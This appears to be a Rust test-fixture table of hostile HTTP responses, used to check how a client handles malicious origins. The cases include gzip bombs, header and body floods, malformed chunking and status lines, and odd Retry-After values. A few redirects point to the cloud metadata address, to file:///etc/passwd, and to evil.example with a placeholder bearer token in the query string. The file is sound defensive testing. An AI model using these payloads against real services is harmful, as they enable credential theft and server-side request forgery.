//! The answers of hostile origins, each with the outcomes that make sense of it. What the runtime makes of an invalid
//! answer is its own affair, so some have several.

use std::net::SocketAddr;
use std::time::Duration;

use crate::malice::{Malice, answer};
use crate::shapes::gzip;

/// The credentials that hostile origins are sent, and may send back.
pub(crate) const CREDENTIALS: &str = "Bearer d0wnstream/credentials+of=42&more";

pub(crate) struct Case {
    /// The destination, and the path.
    pub(crate) name: &'static str,
    pub(crate) malice: Malice,
    pub(crate) outcomes: &'static [&'static str],
}

const DELIVERED: &[&str] = &["delivered"];
const STATUS: &[&str] = &["status"];
const TIMEOUT: &[&str] = &["timeout"];
/// It is no answer.
const FAILED: &[&str] = &["network", "timeout", "reset"];
const ANY: &[&str] = &["delivered", "network", "timeout", "reset", "status"];

pub(crate) fn all(address: SocketAddr) -> Vec<Case> {
    let mut all = bodies();
    all.extend(heads());
    all.extend(redirects(address));
    all.extend(retry_after());
    all.extend(echoes());
    all
}

fn case(name: &'static str, malice: Malice, outcomes: &'static [&'static str]) -> Case {
    Case {
        name,
        malice,
        outcomes,
    }
}

#[rustfmt::skip] // A table.
fn bodies() -> Vec<Case> {
    let ok = |headers: &str| format!("HTTP/1.1 200 OK\r\n{headers}\r\n").into_bytes();
    let says = |text: String| Malice::Says(text.into_bytes());
    let repeats = |head: Vec<u8>, piece: Vec<u8>, ms| Malice::Repeats(head, piece, Duration::from_millis(ms));
    let chunk = format!("10000\r\n{}\r\n", "x".repeat(1 << 16)).into_bytes();
    let zipped = |headers: &str, body: Vec<u8>| {
        let length = body.len();
        Malice::Says([ok(&format!("{headers}Content-Length: {length}\r\n")), body].concat())
    };
    let chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
    vec![
        case("endless-body", repeats(ok(""), vec![b'x'; 1 << 16], 0), DELIVERED),
        case("endless-chunks", repeats(chunked.into(), chunk, 0), DELIVERED),
        case("endless-500", repeats(b"HTTP/1.1 500 No\r\n\r\n".to_vec(), vec![b'x'; 1 << 16], 0), STATUS),
        case("dripping-body", repeats(ok("Content-Length: 100000\r\n"), b"x".to_vec(), 50), DELIVERED),
        case("body-that-stops", Malice::SaysAndWaits(ok("Content-Length: 100\r\n")), DELIVERED),
        case("body-reset", Malice::SaysAndResets([ok("Content-Length: 100\r\n"), b"half".to_vec()].concat()), DELIVERED),
        case("body-cut", Malice::Says([ok("Content-Length: 100\r\n"), b"half".to_vec()].concat()), DELIVERED),
        case("body-too-long", Malice::Says([ok("Content-Length: 5\r\n"), vec![b'x'; 5000]].concat()), ANY),
        case("gzip-bomb", zipped("Content-Encoding: gzip\r\n", gzip(&vec![b'x'; 32 << 20])), ANY),
        case("gzip-lie", zipped("Content-Encoding: gzip\r\n", b"no gzip".to_vec()), ANY),
        case("strange-encoding", zipped("Content-Encoding: a, b, \"c\r\n", b"x".to_vec()), ANY),
        case("no-text", zipped("", (0..=255).cycle().take(8000).collect()), DELIVERED),
        case("bad-chunk", says(format!("{chunked}zz\r\nx\r\n0\r\n\r\n")), ANY),
        case("huge-chunk", says(format!("{chunked}fffffffffffffffff\r\nx")), ANY),
        case("negative-chunk", says(format!("{chunked}-1\r\nx\r\n0\r\n\r\n")), ANY),
        case("negative-length", Malice::Says(ok("Content-Length: -5\r\n")), ANY),
        case("huge-length", Malice::Says(ok("Content-Length: 99999999999999999999\r\n")), ANY),
        case("two-lengths", Malice::Says([ok("Content-Length: 1\r\nContent-Length: 2\r\n"), b"xy".to_vec()].concat()), ANY),
        case("length-and-chunks", says("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_owned()), ANY),
        case("204-with-a-body", says("HTTP/1.1 204 No\r\nContent-Length: 5\r\n\r\nhello".to_owned()), ANY),
        case("304", Malice::Says(answer(304, "", "")), STATUS),
        case("log-lines", Malice::Says(answer(500, "", "\r\n{\"event\":\"attempt\",\"forged\":true}\r\n\u{1b}[31m\0")), STATUS),
    ]
}

#[rustfmt::skip] // A table.
fn heads() -> Vec<Case> {
    let says = |text: &str| Malice::Says(text.into());
    let repeats = |head: &str, piece: &str, ms| Malice::Repeats(head.into(), piece.into(), Duration::from_millis(ms));
    let large = "x".repeat(1 << 16);
    vec![
        case("silent", Malice::SaysAndWaits(vec![]), TIMEOUT),
        case("closes", says(""), FAILED),
        case("resets", Malice::SaysAndResets(vec![]), FAILED),
        case("half-a-head", Malice::SaysAndWaits(b"HTTP/1.1 200 OK\r\nContent-Le".to_vec()), TIMEOUT),
        case("slow-head", repeats("HTTP/1.1 200 OK\r\n", "x", 50), FAILED),
        case("slow-headers", repeats("HTTP/1.1 200 OK\r\n", "X: y\r\n", 50), FAILED),
        case("endless-headers", repeats("HTTP/1.1 200 OK\r\n", &format!("X: {large}\r\n"), 0), FAILED),
        case("endless-header", repeats("HTTP/1.1 200 OK\r\nX: ", &large, 0), FAILED),
        case("endless-line", repeats("", &large, 0), FAILED),
        case("huge-header", says(&format!("HTTP/1.1 200 OK\r\nX: {}\r\nContent-Length: 0\r\n\r\n", "x".repeat(5 << 20))), ANY),
        case("many-headers", says(&format!("HTTP/1.1 200 OK\r\n{}Content-Length: 0\r\n\r\n", "X: y\r\n".repeat(50_000))), ANY),
        case("many-cookies", says(&format!("HTTP/1.1 200 OK\r\n{}Content-Length: 0\r\n\r\n", "Set-Cookie: a=b\r\n".repeat(900))), ANY),
        case("huge-reason", says(&format!("HTTP/1.1 500 {large}\r\nContent-Length: 0\r\n\r\n")), ANY),
        case("flood-of-100", says(&format!("{}HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", "HTTP/1.1 100 Continue\r\n\r\n".repeat(5000))), ANY),
        case("flood-of-103", repeats("", "HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n", 1), FAILED),
        case("switches", says("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-0", says("HTTP/1.1 000 X\r\nContent-Length: 0\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-99", says("HTTP/1.1 99 X\r\nContent-Length: 0\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-600", says("HTTP/1.1 600 X\r\nContent-Length: 0\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-1000", says("HTTP/1.1 1000 X\r\nContent-Length: 0\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-large", says("HTTP/1.1 99999999999 X\r\nContent-Length: 0\r\n\r\n"), &["network", "timeout", "reset", "status"]),
        case("status-text", says("HTTP/1.1 OK\r\nContent-Length: 0\r\n\r\n"), FAILED),
        case("status-minus", says("HTTP/1.1 -200 OK\r\nContent-Length: 0\r\n\r\n"), FAILED),
        case("no-reason", says("HTTP/1.1 200\r\nContent-Length: 0\r\n\r\n"), ANY),
        case("version", says("HTTP/9.9 200 OK\r\nContent-Length: 0\r\n\r\n"), ANY),
        case("no-version", says("200 OK\r\n\r\n"), FAILED),
        case("ssh", says("SSH-2.0-OpenSSH_9.9\r\n"), FAILED),
        case("bytes", Malice::Says((0..=255).collect()), FAILED),
        case("bad-header", says("HTTP/1.1 200 OK\r\nno colon\r\nContent-Length: 0\r\n\r\n"), ANY),
        case("split-header", says("HTTP/1.1 500 No\r\nX: a\r\n b\0c\r\nContent-Length: 0\r\n\r\n"), ANY),
    ]
}

#[rustfmt::skip] // A table.
fn redirects(address: SocketAddr) -> Vec<Case> {
    let to = |status: u16, location: &str| Malice::Says(answer(status, &format!("Location: {location}\r\n"), "moved"));
    let here = |path: &str| format!("http://{address}/{path}");
    vec![
        case("redirect-itself", to(302, &here("redirect-itself")), STATUS),
        case("redirect-301", to(301, &here("elsewhere")), STATUS),
        case("redirect-303", to(303, &here("elsewhere")), STATUS),
        case("redirect-307", to(307, &here("elsewhere")), STATUS),
        case("redirect-308", to(308, &here("elsewhere")), STATUS),
        case("redirect-metadata", to(307, "http://169.254.169.254/latest/meta-data/"), STATUS),
        case("redirect-file", to(302, "file:///etc/passwd"), STATUS),
        case("redirect-secret", to(302, &format!("https://evil.example/?c={CREDENTIALS}")), STATUS),
        case("redirect-nowhere", to(302, ""), STATUS),
        case("refresh", Malice::Says(answer(500, &format!("Refresh: 0; url={}\r\nAlt-Svc: h2=\"{address}\"\r\n", here("elsewhere")), "")), STATUS),
    ]
}

#[rustfmt::skip] // A table.
fn retry_after() -> Vec<Case> {
    let names = [
        ("retry-minus", "-1"), ("retry-large", "100000000000000000000"), ("retry-days", "99999999"), ("retry-zero", "0"),
        ("retry-float", "1.5e9"), ("retry-text", "soon"), ("retry-past", "Wed, 21 Oct 2015 07:28:00 GMT"),
        ("retry-future", "Fri, 31 Dec 9999 23:59:59 GMT"), ("retry-no-date", "Thu, 32 Foo 2099 99:99:99 GMT"), ("retry-empty", ""),
        ("retry-list", "1, 2, 3"), ("retry-twice", "5\r\nRetry-After: 99999999"), ("retry-long", "9999999999999999999999999999999999999999"),
    ];
    let case = |(name, value): (&'static str, &str)| {
        let refused = answer(503, &format!("Retry-After: {value}\r\n"), "later");
        case(name, Malice::Says(refused), STATUS)
    };
    names.into_iter().map(case).collect()
}

/// The spellings of one's own credentials in an error page.
#[rustfmt::skip] // A table.
fn echoes() -> Vec<Case> {
    let echo = |name, spelt: fn(&str) -> String| case(name, Malice::Echoes(spelt), STATUS);
    vec![
        echo("echo-plain", str::to_owned),
        echo("echo-percent", harness::fixtures::answer::encode),
        echo("echo-percent-all", |text| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<Vec<_>>().concat()),
        echo("echo-percent-twice", |text| text.bytes().map(|byte| format!("%25{byte:02X}")).collect::<Vec<_>>().concat()),
        echo("echo-percent-thrice", |text| text.bytes().map(|byte| format!("%2525{byte:02x}")).collect::<Vec<_>>().concat()),
        echo("echo-html-in-json", |text| text.chars().map(|c| format!("\\u0026#{};", u32::from(c))).collect::<Vec<_>>().concat()),
        echo("echo-json", |text| text.replace('/', "\\/")),
        echo("echo-json-all", |text| text.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect::<Vec<_>>().concat()),
        echo("echo-html", |text| text.replace('&', "&amp;").replace('/', "&#x2F;").replace('+', "&#43;")),
        echo("echo-html-all", |text| text.chars().map(|c| format!("&#{};", u32::from(c))).collect::<Vec<_>>().concat()),
    ]
}
